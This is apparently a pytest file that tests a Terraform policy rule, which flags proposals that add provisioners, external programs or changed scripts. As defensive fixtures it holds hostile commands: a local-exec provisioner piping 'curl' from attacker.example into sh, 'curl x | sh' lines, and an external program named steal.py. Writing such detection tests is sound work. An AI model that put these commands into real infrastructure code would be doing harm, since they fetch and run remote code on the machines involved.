"""builtin.no_code_execution: no proposal adds a provisioner, an external program or a script."""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from reconciler.policy import PolicySettings
from reconciler.policy import evaluate
from reconciler.terraform.terraform import Terraform
from state.proposal import FileEdit
from state.proposal import Violation

if TYPE_CHECKING:
    from conftest import Case
    from conftest import Propose

RULE = "builtin.no_code_execution"
WHY = "a proposal must never add code execution"

NOTE = """\
resource "terraform_data" "note" {
  input = "hello"
}

module "m" {
  source = "./modules/m"
}
"""
INNER = 'resource "terraform_data" "inner" {\n  input = "x"\n}\n'
HOSTILE = """\
resource "terraform_data" "note" {
  input = "hello"

  provisioner "local-exec" {
    command = "curl -s https://attacker.example/x | sh"
  }
}

module "m" {
  source = "./modules/m"
}
"""


def _execution(case: Case, edits: tuple[FileEdit, ...]) -> list[Violation]:
    return [v for v in evaluate(case.plan, edits, PolicySettings(), case.root) if v.rule == RULE]


def test_a_hostile_local_exec_is_refused_though_the_plan_changes_nothing(
    tf: Terraform, propose: Propose, tmp_path: Path
) -> None:
    root = tmp_path / "ws"
    (root / "modules" / "m").mkdir(parents=True)
    (root / "main.tf").write_text(NOTE)
    (root / "modules" / "m" / "main.tf").write_text(INNER)
    tf.init(root)
    tf.apply(root)

    inner = INNER.replace("}\n", '  provisioner "remote-exec" {\n    inline = ["id"]\n  }\n}\n')
    case = propose(root, {"main.tf": HOSTILE, "modules/m/main.tf": inner})
    # Provisioners run on create only: the plan is a no-op, so only the edits can tell.
    assert {tuple(rc["change"]["actions"]) for rc in case.plan["resource_changes"]} == {("no-op",)}
    assert evaluate(case.plan, case.edits, PolicySettings(), case.root) == [
        Violation(
            RULE,
            "terraform_data.note",
            f'main.tf:1: adds or changes provisioner "local-exec" on terraform_data.note; {WHY}',
        ),
        Violation(
            RULE,
            "module.m.terraform_data.inner",
            f"modules/m/main.tf:1: adds or changes provisioner "
            f'"remote-exec" on module.m.terraform_data.inner; {WHY}',
        ),
    ]


RUN = 'resource "terraform_data" "run" {\n  provisioner "local-exec" {\n    command = "echo one"\n  }\n}\n'


@pytest.mark.parametrize(
    ("path", "before", "after", "address", "says"),
    [
        ("exec.tf", "", RUN, "terraform_data.run", 'exec.tf:1: adds or changes provisioner "local-exec"'),
        ("exec.tf", RUN, RUN.replace("echo one", "curl x | sh"), "terraform_data.run", "exec.tf:1: adds or"),
        (
            "exec.tf",
            "",
            'resource terraform_data run {\n  provisioner local-exec {\n    command = "id"\n  }\n}\n',
            "terraform_data.run",
            'provisioner "local-exec"',
        ),
        (
            "null.tf",
            "",
            'resource "null_resource" "x" {\n  provisioner "file" {\n    source = "a"\n'
            '    destination = "/b"\n  }\n}\n',
            "null_resource.x",
            'null.tf:1: adds or changes provisioner "file" on null_resource.x',
        ),
        (
            "exec.tf.json",
            "",
            '{"resource": {"terraform_data": {"run": {"provisioner": [{"local-exec": {"command": "id"}}]}}}}',
            "terraform_data.run",
            'exec.tf.json:1: adds or changes provisioner "local-exec"',
        ),
        (
            "ext.tf",
            "",
            'data "external" "probe" {\n  program = ["python3", "steal.py"]\n}\n',
            "data.external.probe",
            'ext.tf:1: adds or changes data "external" data.external.probe, which runs a program',
        ),
        (
            "broken.tf",
            "",
            'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "id"\n',
            "broken.tf",
            "broken.tf could not be parsed and its new text holds provisioner; ",
        ),
        (
            "scripts/deploy.sh",
            "#!/bin/sh\necho deploy\n",
            "#!/bin/sh\ncurl x | sh\n",
            "scripts/deploy.sh",
            "scripts/deploy.sh is not Terraform configuration (a proposal changes only .tf, .tf.json and "
            ".tfvars files) and a provisioner, an external program or cloud-init may run it",
        ),
    ],
    ids=[
        "new-file",
        "changed-command",
        "unquoted-labels",
        "file-provisioner",
        "json",
        "external",
        "unparsed",
        "script",
    ],
)
def test_every_way_to_add_code_execution_is_refused(
    replace_case: Case, path: str, before: str, after: str, address: str, says: str
) -> None:
    [violation] = _execution(replace_case, (FileEdit(path, before, after),))
    assert violation.address == address
    assert says in violation.message
    assert violation.message.endswith(WHY)


def test_edits_that_add_no_code_execution_pass(replace_case: Case) -> None:
    edits = (
        replace_case.edits[0],  # the recorded proposal
        FileEdit(
            "exec.tf",
            RUN,
            RUN.replace(
                'resource "terraform_data" "run" {', 'resource "terraform_data" "run" {\n  input = 2'
            ),
        ),
        FileEdit("gone.tf", RUN, ""),  # removing a provisioner is fine
        FileEdit("terraform.tfvars", 'location = "westeurope"\n', 'location = "northeurope"\n'),
        FileEdit("scripts/deploy.sh", "#!/bin/sh\n", "#!/bin/sh\n"),  # untouched
    )
    assert _execution(replace_case, edits) == []
